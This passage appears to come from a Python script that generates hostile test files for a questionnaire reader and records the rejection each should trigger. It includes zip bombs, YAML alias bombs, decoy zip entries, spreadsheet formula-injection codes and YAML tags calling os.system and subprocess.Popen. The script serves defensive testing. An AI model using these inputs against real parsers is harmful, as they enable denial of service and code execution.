                                          'officeDocument/2006/relationships"/></externalLink>'.encode(),
                                          "xl/externalLinks/_rels/externalLink1.xml.rels": b'<Relationships xmlns='
                                          b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
                                          b'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                                          b'relationships/externalLinkPath" Target="file:///C:/secret/salaires.xlsx" '
                                          b'TargetMode="External"/></Relationships>'}))

# respondents
data_case(R + "duplicate-a.xlsx", "scored", "", "code DUP1 dans deux fichiers identiques : le premier compte "
          "/ code DUP1 in two identical files: the first counts", lambda: base("DUP1"))
data_case(R + "duplicate-b.xlsx", "rejected", "duplicate-copy",
          "la copie identique : comptée une fois (chaque copie était comptée par validate) / the identical copy, counted once",
          lambda: base("DUP1"))
data_case(R + "duplicate-case.xlsx", "rejected", "duplicate-copy",
          "« dup1 » : même code à la casse près, mêmes réponses / the same code in lower case, same answers",
          lambda: base("dup1"))
data_case(R + "duplicate-fullwidth.xlsx", "rejected", "duplicate-copy",
          "« ＤＵＰ１ » en pleine chasse (NFKC) / the same code in full-width letters", lambda: base("ＤＵＰ１"))
data_case(R + "duplicate-conflict-a.xlsx", "scored-with-issues", "duplicate-respondent",
          "code DUPX avec des réponses DIFFÉRENTES dans deux fichiers / code DUPX with different answers in two files",
          lambda: base("DUPX"))
data_case(R + "duplicate-conflict-b.xlsx", "scored-with-issues", "duplicate-respondent",
          "code DUPX avec des réponses DIFFÉRENTES dans deux fichiers / code DUPX with different answers in two files",
          lambda: with_cells(base("DUPX"), {"D15": '<c r="D15" s="10"><v>1</v></c>'}))
data_case(R + "code-bidi-override.xlsx", "rejected", "invalid-respondent-code",
          "code avec U+202E (affichage inversé) / a code with a right-to-left override",
          lambda: base("R\u202eLIVE"))
data_case(R + "csv-bad-codes.csv", "scored-with-issues", "invalid-respondent-code",
          "codes avec un caractère de contrôle, une espace de largeur nulle, 40 000 caractères ; W21 gardé "
          "/ codes with a control character, a zero-width space, 40,000 characters; W21 kept",
          lambda: entry_csv(["W21", "W20\x07", "W22\u200b", "W" * 40_000]).encode())
data_case(R + "email-code.xlsx", "scored", "identifying-respondent-code",
          "code = adresse courriel (avertissement) / an e-mail address as respondent code",
          lambda: base("marie.tremblay@example.org"))
data_case(R + "csv-cp1252.csv", "scored", "not-utf8", "CSV en Windows-1252 (accents) / a CSV in cp1252",
          lambda: entry_csv(["W01", "W02"], "Montréal-Nord").encode("cp1252"))
data_case(R + "csv-nul.csv", "rejected", "corrupt-file", "CSV avec un octet NUL / a CSV with a NUL byte",
          lambda: entry_csv(["W03"]).replace("W03", "W\x0003").encode())
data_case(R + "csv-formula-injection.csv", "scored", "no-metadata",
          "codes et réponse texte commençant par = + - @ (neutralisés à l'écriture) / formula-injection codes",
          lambda: entry_csv(['=HYPERLINK("http://example.com/?"&A1,"x")', "+W05", "-W06", "@W07"],
                                      "=1+1").encode())
data_case(R + "csv-identifying-codes.csv", "scored", "identifying-respondent-code",
          "codes : téléphone, nom et prénom / a phone number and a name as codes",
          lambda: entry_csv(["514 555-1234", "Marie Tremblay", "W10"]).encode())
data_case(R + "csv-duplicate-column.csv", "rejected", "duplicate-column",
          "colonne trcpi1 en double (la dernière gagnait en silence) / a duplicated column (the last silently won)",
          lambda: _duplicate_column(entry_csv(["W40", "W41"])).encode())
data_case(R + "csv-unclosed-quote.csv", "rejected", "unclosed-quote",
          "guillemet jamais fermé : deux répondants disparaissaient / an unclosed quote (two respondents vanished)",
          lambda: _unclosed_quote(entry_csv(["W42", "W43", "W44", "W45"])).encode())
data_case(R + "csv-utf16.csv", "scored", "no-metadata",
          "« Texte Unicode » d'Excel : UTF-16 avec BOM, tabulations (était corrupt-file) / Excel's Unicode text (UTF-16)",
          lambda: entry_csv(["W46", "W47"]).replace(";", "\t").encode("utf-16"))
data_case(R + "csv-sep-line.csv", "scored", "no-metadata",
          "première ligne « sep=; » (Excel français ; était other-form) / a first line sep=; (French Excel)",
          lambda: ("sep=;\n" + entry_csv(["W48", "W49"])).encode())
data_case(R + "csv-bom-only.csv", "rejected", "empty-file", "CSV réduit à son BOM / a CSV with only a BOM",
          lambda: b"\xef\xbb\xbf")

# found by the fuzzer (tests/fuzz/fuzz_reader.py) on the reader before its fix: each aborted
# the whole process (python-calamine asked for terabytes); kept byte for byte
FUZZ = HERE.parent / "fuzz" / "crashes"
for artifact, what in (
    ("crash-3a078cc609daffd036499eb38824133324dd9b93", "atheris : calamine demandait 2,7 To (abandon du processus) "
     "/ fuzzer: calamine asked for 2.7 TB and aborted the process"),
    ("oom-097a179f290695620bb07a3efdc2b7b858952935", "atheris : cellule D99999999, 12,8 Go demandés (abandon) "
     "/ fuzzer: a cell at D99999999, 12.8 GB asked, process aborted"),
):
    case(R + f"fuzz-{artifact[:12]}.xlsx", "rejected", "corrupt-file", what)(
        lambda path, artifact=artifact: path.write_bytes((FUZZ / artifact).read_bytes()))

# generated at test time: big files, odd names
case(R + "zip-bomb.xlsx", "rejected", "zip-bomb",
     "feuille de ~300 Mo compressée en ~300 ko / a ~300 MB sheet deflated to ~300 kB", generated=True)(zip_bomb)
case(R + "huge-sheet-1e6-rows.xlsx", "rejected", "sheet-too-large",
     "1 000 000 de lignes (écrites en flux dans le zip) / a 1,000,000-row sheet", generated=True)(huge_sheet)
case(R + "large-accepted-sheet.xlsx", "scored", "",
     "120 000 lignes sous les questions (480 000 cellules, sous la limite) : lu / a large sheet under the limit",
     generated=True)(large_sheet)
case(R + "huge-csv.csv", "rejected", "sheet-too-large", "CSV de 38 Mo, 400 000 lignes / a 38 MB, 400,000-row CSV",
     generated=True)(huge_csv)
case(R + "zip-many-entries.xlsx", "rejected", "zip-bomb", "150 000 entrées vides dans le zip / 150,000 empty zip entries",
     generated=True)(many_entries)
case(R + "huge-text-cell.xlsx", "scored-with-issues", "invalid-answer",
     "6 millions de caractères dans une cellule / 6 million characters in one cell", generated=True)(huge_text_cell)
case(R + "many-merges.xlsx", "rejected", "sheet-too-large", "60 000 plages fusionnées / 60,000 merged ranges",
     generated=True)(many_merges)
for k, odd in enumerate(["réponses de Zoé (copie).xlsx", "l'équipe \"A\".xlsx", "-rf --help.xlsx",
                         "saut\nde ligne.xlsx", "  espaces  .xlsx", "日本語.xlsx"]):
    case(R + odd, "scored", "", "nom de fichier inhabituel / an odd file name", generated=True)(odd_named(f"N{k:02d}"))

# form specs
S = "specs/"
GOOD = SPEC.read_text(encoding="utf-8")
data_case(S + "anchor-bomb.yaml", "form-error", "yaml-alias", "bombe d'ancres YAML / a YAML anchor (alias) bomb",
          lambda: ("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
              f"{c}: &{c} [{', '.join([f'*{p}'] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
              + GOOD).encode())
data_case(S + "merge-key.yaml", "form-error", "yaml-alias", "clé de fusion << / a YAML merge key",
          lambda: ("defaults: &d {order: grouped}\nother:\n  <<: *d\n" + GOOD).encode())
data_case(S + "python-tag.yaml", "form-error", "unsafe-yaml",
          "!!python/object/apply:os.system (jamais exécuté) / a Python tag, never run",
          lambda: GOOD.replace("id: member", "id: !!python/object/apply:os.system ['touch /tmp/intangibles-pwned']", 1).encode())
data_case(S + "python-name.yaml", "form-error", "unsafe-yaml", "!!python/name:os.system",
          lambda: (GOOD + "extra: !!python/name:os.system\n").encode())
data_case(S + "python-new.yaml", "form-error", "unsafe-yaml", "!!python/object/new:subprocess.Popen",
          lambda: (GOOD + "extra: !!python/object/new:subprocess.Popen [[touch, /tmp/intangibles-pwned]]\n").encode())
data_case(S + "not-utf8.yaml", "form-error", "invalid-encoding", "spec en Windows-1252 / a spec in cp1252",
          lambda: GOOD.encode("cp1252", errors="replace"))
data_case(S + "utf16.yaml", "form-error", "invalid-encoding", "spec en UTF-16 / a spec in UTF-16", lambda: GOOD.encode("utf-16"))
data_case(S + "deep-nesting.yaml", "form-error", "yaml-too-large", "5 000 listes imbriquées / 5,000 nested lists",
          lambda: ("id: member\nx: " + "[" * 5000 + "]" * 5000 + "\n").encode())
data_case(S + "deep-mapping.yaml", "form-error", "yaml-too-large", "100 mappings imbriqués / 100 nested mappings",
          lambda: ("".join("  " * i + f"k{i}:\n" for i in range(100)) + "  " * 100 + "v: 1\n").encode())
data_case(S + "nul-byte.yaml", "form-error", "yaml-syntax", "octet NUL / a NUL byte", lambda: b"id: mem\x00ber\n")
data_case(S + "empty.yaml", "form-error", "empty-file", "spec vide / an empty spec", lambda: b"")
data_case(S + "a-list.yaml", "form-error", "not-a-mapping", "une liste au lieu d'un mapping / a list", lambda: b"- id\n- version\n")
case(S + "huge.yaml", "form-error", "yaml-too-large", "spec de plus de 1 Mo / a spec over 1 MB", generated=True)(huge_spec)


# keys files (psychometrics.load_keys, validate --keys): the one safe loader of user files
K = "keys/"
data_case(K + "alias-bomb.yaml", "keys-error", "yaml-alias",
          "bombe d'alias YAML de 500 octets (MemoryError au repr()) / a 500-byte YAML alias bomb (MemoryError)",
          lambda: ("a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
              f"{c}: &{c} [{', '.join([f'*{p}'] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
              + "scales: {TRU: *i}\nmin: 1\nmax: 5\n").encode())
data_case(K + "deep.json", "keys-error", "json-too-large",
          "JSON imbriqué 5 000 fois (RecursionError) / 5,000 nested JSON lists",
          lambda: ('{"scales": {"TRU": ' + "[" * 5000 + "]" * 5000 + "}}").encode())
data_case(K + "deep.yaml", "keys-error", "yaml-too-large",
          "YAML imbriqué 5 000 fois (RecursionError) / 5,000 nested YAML lists",
          lambda: ("scales:\n  TRU: " + "[" * 5000 + "]" * 5000 + "\n").encode())
data_case(K + "python-tag.yaml", "keys-error", "unsafe-yaml", "!!python/object/apply:os.system dans un fichier de clés",
          lambda: b"scales: !!python/object/apply:os.system ['touch /tmp/intangibles-pwned']\n")

# data files of validate: the same workbook checks as a returned questionnaire
D = "data/"
data_case(D + "far-apart-cells.xlsx", "data-error", "sheet-too-large",
          "données .xlsx avec une cellule en XFD1048576 (abandon du processus) / a data workbook with a far-away cell",
          lambda: with_sheet_xml(data_workbook(), lambda x: x.replace(
              "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'), DATA_SHEET))
data_case(D + "shared-strings-count-bomb.xlsx", "data-error", "sheet-too-large",
          "données .xlsx, uniqueCount=4000000000 (abandon du processus) / a declared shared-strings count bomb",
          lambda: with_shared_strings(data_workbook(), f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="4000000000">'
                                      '<si><t>x</t></si></sst>'.encode()))
data_case(D + "unicode-path-decoy.xlsx", "data-error", "unsafe-zip",
          "données .xlsx avec une feuille leurre (champ Unicode path) / a decoy sheet named through the Unicode-path field",
          lambda: _unicode_decoy(data_workbook(), lambda x: x.replace(b"<v>3</v>", b"<v>1</v>"), target=DATA_SHEET))

data_case(D + "stray-space-far.xlsx", "data-read", "",
          "données .xlsx lues malgré une espace en XFD1048576 (était sheet-too-large) "
          "/ a data workbook read despite a space in XFD1048576",
          lambda: with_sheet_xml(data_workbook(), lambda x: x.replace(
              "</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t> </t></is></c></row></sheetData>'),
              DATA_SHEET))


# ----------------------------------------------------------------------------- folders (built at test time only)
#: entry -> the code of its row in the log: entries git cannot hold (a FIFO, links, a folder
#: 1,100 levels deep), made by :func:`special_entries` in a temporary folder
SPECIAL = {"pipe.xlsx": "not-a-regular-file", "dangling.xlsx": "broken-link", "device.xlsx": "not-a-regular-file",
           "folder-link": "not-a-regular-file", "deep": ""}
DEEP_LEVELS = 1_100


def special_entries(folder: Path) -> Path:
    """A FIFO, a dangling link, a link to /dev/zero, a link to a folder, and a clean return
    1,100 folders deep (the recursive listing raised RecursionError), under ``folder``.
    Returns the deep file."""
    import os

    os.mkfifo(folder / "pipe.xlsx")
    (folder / "dangling.xlsx").symlink_to(folder / "gone.xlsx")
    (folder / "device.xlsx").symlink_to("/dev/zero")
    (folder / "folder-link").symlink_to(SAMPLES, target_is_directory=True)
    deep = folder / "deep"
    deep.mkdir()
    for _ in range(DEEP_LEVELS):  # one level at a time: os.makedirs recurses, and fails here too
        deep = deep / "d"
        deep.mkdir()
    (deep / "R-deep.xlsx").write_bytes(base("DEEP1"))
    return deep / "R-deep.xlsx"


def remove_deep(deep_file: Path) -> None:
    """Remove the deep return and its folders, deepest first (shutil.rmtree recurses)."""
    deep_file.unlink()
    here = deep_file.parent
    while here.name == "d":
        here.rmdir()
        here = here.parent
    here.rmdir()


# ----------------------------------------------------------------------------- builders used above
def _lying_sizes(data: bytes) -> bytes:
    small = len(part(data, SHEET))
    big = part(data, SHEET).replace(b"</sheetData>", b"<row r='900'/>" * 20000 + b"</sheetData>")
    buf = bytearray(rezip(data, replace={SHEET: big}))
    info = zipfile.ZipFile(io.BytesIO(bytes(buf))).getinfo(SHEET)
    struct.pack_into("<I", buf, info.header_offset + 22, small)
    cd = buf.find(b"PK\x01\x02")
    while cd != -1:
        n = struct.unpack_from("<H", buf, cd + 28)[0]
        if bytes(buf[cd + 46 : cd + 46 + n]).decode() == SHEET:
            struct.pack_into("<I", buf, cd + 24, small)
        cd = buf.find(b"PK\x01\x02", cd + 46)
    return bytes(buf)


def _duplicate_member(data: bytes) -> bytes:
    formula = re.sub(rb'<c r="D15"[^>]*?>.*?</c>', b'<c r="D15" s="10"><f>2+2</f><v>4</v></c>', part(data, SHEET), count=1)
    parts = []
    for name, body in parts_of(data):
        if name == SHEET:
            parts.append((name, formula))
        parts.append((name, body))
    with warnings.catch_warnings():  # zipfile warns about the duplicate name: that is the point
        warnings.simplefilter("ignore", UserWarning)
        return zip_parts(parts)


def _formula_at_d15(xml: bytes) -> bytes:
    return re.sub(rb'<c r="D15"[^>]*?>.*?</c>', b'<c r="D15" s="10"><f>0+1</f><v>1</v></c>', xml, count=1)


def _unicode_extra(claimed: str, real: str) -> bytes:
    """An Info-ZIP Unicode-path extra field (0x7075): version 1, CRC-32 of the real name, the claimed name."""
    body = struct.pack("<BI", 1, zipfile.crc32(real.encode())) + claimed.encode()
    return struct.pack("<HH", 0x7075, len(body)) + body


def _unicode_decoy(data: bytes, edit: Callable[[bytes], bytes], local_only: bool = False, target: str = SHEET) -> bytes:
    """The workbook plus a part ``xl/worksheets/zz.xml`` (the answer sheet, edited) whose
    Unicode-path extra field says it is the answer sheet: Python's zipfile ignores the field,
    the Rust zip crate under python-calamine honours it."""
    decoy, name = edit(part(data, target)), "xl/worksheets/zz.xml"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for n, body in parts_of(data):
            z.writestr(zipfile.ZipInfo(n, date_time=FIXED_TIME), body, compress_type=zipfile.ZIP_DEFLATED)
        info = zipfile.ZipInfo(name, date_time=FIXED_TIME)
        info.compress_type = zipfile.ZIP_DEFLATED
        info.extra = _unicode_extra(target, name)
        z.writestr(info, decoy)
    raw = bytearray(out.getvalue())
    if local_only:  # blank the central directory's copy (same length: a field of an unknown kind)
        at = raw.rfind(_unicode_extra(target, name))
        raw[at : at + 2] = struct.pack("<H", 0xCAFE)
    return bytes(raw)


def _strict(data: bytes) -> bytes:
    """The workbook with the namespaces of Strict Open XML (what Excel writes for "Strict Open XML Spreadsheet")."""
    def strict(xml: bytes) -> bytes:
        return (xml.replace(b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
                            b"http://purl.oclc.org/ooxml/spreadsheetml/main")
                .replace(b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
                         b"http://purl.oclc.org/ooxml/officeDocument/relationships"))
    return rezip(data, replace={n: strict(b) for n, b in parts_of(data) if n.endswith((".xml", ".rels"))})


def _duplicate_column(text: str) -> str:
    """The CSV with a second trcpi1 column at the end (other answers in it)."""
    lines = text.splitlines()
    return "\n".join([lines[0] + ";trcpi1"] + [line + ";1" for line in lines[1:]]) + "\n"


def _unclosed_quote(text: str) -> str:
    """A quote opened in the second respondent's context answer and never closed."""
    lines = text.splitlines()
    lines[2] = lines[2].replace(";RC09;", ';"RC09;', 1)
    assert '"RC09' in lines[2]
    return "\n".join(lines) + "\n"


def _number_in_date_cell(wb, meta):
    cell = wb["Questionnaire"][meta["cell:trcpi1"]]
    cell.value, cell.number_format = 4, "yyyy-mm-dd"


def _swap_cell_map(wb, meta):
    """trcpi1 and trcpi4 exchanged in _meta's cell map and in the id column beside the answers."""
    ws = wb["Questionnaire"]
    a, b = meta["cell:trcpi1"], meta["cell:trcpi4"]
    ws[f"B{a[1:]}"].value, ws[f"B{b[1:]}"].value = ws[f"B{b[1:]}"].value, ws[f"B{a[1:]}"].value
    set_meta("cell:trcpi1", b)(wb, meta)
    set_meta("cell:trcpi4", a)(wb, meta)


def _swap_rows(wb, meta):
    ws = wb["Questionnaire"]
    r1, r2 = int(meta["cell:trcpi1"][1:]), int(meta["cell:trcpi4"][1:])
    for col in "ABCD":
        ws[f"{col}{r1}"].value, ws[f"{col}{r2}"].value = ws[f"{col}{r2}"].value, ws[f"{col}{r1}"].value


def _swap_columns(a: str, b: str):
    """Exchange two columns of the answer sheet, as cut-and-paste would (merged headings stay)."""
    from openpyxl.cell.cell import MergedCell

    def edit(wb, _meta):
        ws = wb["Questionnaire"]
        for r in range(1, ws.max_row + 1):
            x, y = ws[f"{a}{r}"], ws[f"{b}{r}"]
            if not isinstance(x, MergedCell) and not isinstance(y, MergedCell):
                x.value, y.value = y.value, x.value
    return edit


def _move_answer(wb, meta):
    ws = wb["Questionnaire"]
    cell = meta["cell:trcpi1"]
    ws[f"E{cell[1:]}"] = ws[cell].value
    ws[cell] = None


def _implicit_row_15(xml: str) -> str:
    row = re.search(r'<row r="15"[^>]*>.*?</row>', xml, re.S).group(0)
    plain = re.sub(r' r="[A-Z]+15"', "", row)
    plain = re.sub(r'(<c s="10") t="inlineStr"><is><t>[^<]*</t></is></c>', r"\1><f>2+2</f><v>4</v></c>", plain)
    return xml.replace(row, plain)


# ----------------------------------------------------------------------------- main
def build(name: str, folder: Path) -> Path:
    """Write case ``name`` under ``folder`` (``folder/returned/...`` or ``folder/specs/...``)."""
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    CASES[name][3](path)
    return path


def main(out: Path = HERE) -> None:
    for sub in ("returned", "specs", "keys", "data"):
        if (out / sub).is_dir():
            shutil.rmtree(out / sub)
    for name in CASES:
        if name not in GENERATED:
            build(name, out)
    with open(out / "expected.csv", "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(["file", "status", "code", "generated", "what"])
        for name, (status, code, what, _build) in CASES.items():
            writer.writerow([name, status, code, "test-time" if name in GENERATED else "", what])


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
